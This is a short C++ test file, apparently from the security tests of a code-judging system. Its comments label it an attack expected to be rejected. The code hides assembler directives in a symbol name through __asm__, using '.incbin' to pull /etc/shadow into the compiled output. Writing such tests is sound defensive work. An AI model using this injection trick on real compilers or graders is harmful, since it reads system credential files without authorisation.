// attack: reaches the assembler through the name of a symbol
// verdict: NOT GRADED or DOES NOT COMPILE or WRONG

extern "C" int named() __asm__("x\n.incbin \"/etc/shadow\"\n");
bool attack() {
  return named() != 0;
}
